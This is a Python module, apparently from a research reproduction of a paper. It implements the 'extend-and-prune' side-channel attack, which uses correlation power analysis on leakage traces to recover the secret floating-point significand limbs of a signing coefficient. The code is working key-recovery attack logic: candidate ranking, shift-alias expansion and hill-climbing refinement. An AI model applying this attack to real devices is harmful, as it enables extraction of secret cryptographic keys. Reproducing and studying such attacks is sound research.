"""The paper's extend-and-prune mantissa recovery (Section III-C).

Extend phase: candidates for the secret 25-bit low limb D are obtained
by attacking the partial products D*B and D*A (via the ladder when the
space is too large to enumerate); this is "expected to generate false
positives" — shift aliases of D correlate identically.

Prune phase: the surviving candidates are re-ranked by attacking the
*intermediate addition* s_lo = (D*B >> 25) + D*A. Addition is not shift
invariant ("the same coefficients 1 vs 2 generate results having
different Hamming weights based on the other input of the addition"),
so the false positives die and the true D wins.

The same two phases then recover the 27 unknown bits of the high limb C
(its MSB is the implicit 1), pruning on s_mid = s_lo + C*B and
s_hi = (s_mid >> 25) + C*A.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.attack.cpa import CpaResult
from repro.attack.distinguisher import Step, score_steps
from repro.attack.hypotheses import hyp_s_hi, hyp_s_lo, hyp_s_mid, known_limbs
from repro.attack.ladder import HIGH_LIMB_STEPS, LOW_LIMB_STEPS, LadderResult, ladder_limb
from repro.attack.strawman import shift_aliases
from repro.fpr.trace import LOW_BITS
from repro.leakage.traceset import TraceSet
from repro.obs.spans import span

__all__ = ["MantissaRecovery", "recover_mantissa", "prune_candidates", "refine_limb"]

_HIGH_BITS = 27  # unknown bits of the 28-bit high limb
_HIGH_MSB = 1 << _HIGH_BITS  # its implicit leading 1

#: The low limb's prune step: s_lo = (D*B >> 25) + D*A.
LOW_PRUNE_STEPS: list[Step] = [("s_lo", lambda y, d: hyp_s_lo(*known_limbs(y), d))]


def _high_prune_steps(low: int) -> list[Step]:
    """The high limb's prune steps, s_mid and s_hi, given the low limb D."""
    return [
        ("s_mid", lambda y, c: hyp_s_mid(*known_limbs(y), low, c)),
        ("s_hi", lambda y, c: hyp_s_hi(*known_limbs(y), low, c)),
    ]


def _with_shift_aliases(candidates: np.ndarray, bits: int, fixed: int) -> np.ndarray:
    """The candidates' full shift-alias classes, with the ``fixed`` bits set.

    The extend phase ranks on multiplication outputs, whose Hamming
    weights are shift invariant — a surviving candidate may therefore be
    the true limb shifted by a few bits (the paper's false positives).
    Expanding each survivor to its alias class guarantees the prune
    phase (shift-*variant* additions) sees the true value. The shifts span
    ``fixed`` too: for a high limb C with k trailing zeros the ladder may
    return C >> k, whose top bit only a 28-bit shift puts back on the MSB.
    """
    out = set()
    width = max(bits, fixed.bit_length())
    for c in candidates:
        out.update(a | fixed for a in shift_aliases(int(c), width))
    return np.array(sorted(out), dtype=np.uint64)


@dataclass
class PhaseDiagnostics:
    """Extend + prune evidence for one limb."""

    ladder: LadderResult
    prune_results: list[CpaResult]
    prune_scores: np.ndarray
    candidates: np.ndarray       # candidate limbs entering the prune
    best: int


@dataclass
class MantissaRecovery:
    """Recovered 53-bit significand with per-phase diagnostics."""

    low_limb: int                # D, 25 bits
    high_limb: int               # C, 28 bits (MSB = 1)
    low: PhaseDiagnostics
    high: PhaseDiagnostics

    @property
    def significand(self) -> int:
        return (self.high_limb << LOW_BITS) | self.low_limb

    @property
    def mantissa_field(self) -> int:
        """The 52-bit mantissa field (significand minus the implicit 1)."""
        return self.significand & ((1 << 52) - 1)


def prune_candidates(
    traceset: TraceSet,
    candidates: np.ndarray,
    steps: list[Step],
    distinguisher=None,
) -> tuple[np.ndarray, list[CpaResult]]:
    """Rank limb candidates on the intermediate additions.

    ``steps`` pairs each attacked addition's label with its hypothesis
    builder; scores sum over segments and steps. The additions carry the
    *full* limb value, so they are scored ``exact=True`` — profiled
    distinguishers use their fitted models here.
    """
    return score_steps(traceset, steps, candidates, distinguisher, exact=True)


def refine_limb(
    traceset: TraceSet,
    initial: int,
    total_bits: int,
    steps: list[Step],
    fixed: int = 0,
    window: int = 6,
    stride: int = 3,
    max_rounds: int = 16,
    distinguisher=None,
) -> tuple[int, float]:
    """Hill-climb a limb candidate on the addition-step correlations.

    The intermediate additions carry the full limb value (no masking),
    so their CPA scores have the highest SNR of the attack; sliding a
    ``window``-bit substitution across the limb and keeping the best
    variant repairs any window the extend phase mis-ranked. ``fixed``
    marks bits that must not be touched (the high limb's implicit MSB).
    """
    best = int(initial) | fixed
    best_score = -np.inf
    for _ in range(max_rounds):
        variants = {best}
        for start in range(0, total_bits, stride):
            wbits = min(window, total_bits - start)
            mask = ((1 << wbits) - 1) << start
            base = best & ~mask
            for v in range(1 << wbits):
                variants.add((base | (v << start)) | fixed)
        cands = np.array(sorted(variants), dtype=np.uint64)
        scores, _ = prune_candidates(traceset, cands, steps, distinguisher)
        top_idx = int(np.argmax(scores))
        top, top_score = int(cands[top_idx]), float(scores[top_idx])
        if top == best or top_score <= best_score + 1e-12:
            best_score = max(best_score, top_score)
            break
        best, best_score = top, top_score
    return best, best_score


def _recover_limb(
    traceset: TraceSet,
    limb: str,
    ladder_steps: tuple[tuple[str, str], ...],
    bits: int,
    prune_steps: list[Step],
    fixed: int,
    distinguisher,
) -> PhaseDiagnostics:
    """Extend on the products, then prune and refine on the additions."""
    with span("extend", limb=limb):
        ladder = ladder_limb(traceset, ladder_steps, bits, distinguisher=distinguisher)
    cands = _with_shift_aliases(ladder.candidates, bits, fixed)
    with span("prune", limb=limb):
        scores, results = prune_candidates(traceset, cands, prune_steps, distinguisher)
        best = int(cands[int(np.argmax(scores))])
        best, _ = refine_limb(
            traceset, best, bits, prune_steps, fixed=fixed, distinguisher=distinguisher
        )
    return PhaseDiagnostics(
        ladder=ladder, prune_results=results, prune_scores=scores, candidates=cands, best=best
    )


def recover_mantissa(traceset: TraceSet, distinguisher=None) -> MantissaRecovery:
    """Full extend-and-prune recovery of one coefficient's significand.

    The low limb D comes first (extend on D*B / D*A, prune on s_lo);
    the high limb C is then pruned on s_mid and s_hi, which need D.
    ``distinguisher`` is an optional fitted
    :class:`repro.attack.distinguisher.Distinguisher`; ``None`` selects
    classic CPA.
    """
    low = _recover_limb(
        traceset, "low", LOW_LIMB_STEPS, LOW_BITS, LOW_PRUNE_STEPS, 0, distinguisher
    )
    high = _recover_limb(
        traceset, "high", HIGH_LIMB_STEPS, _HIGH_BITS, _high_prune_steps(low.best),
        _HIGH_MSB, distinguisher,
    )
    return MantissaRecovery(low_limb=low.best, high_limb=high.best, low=low, high=high)
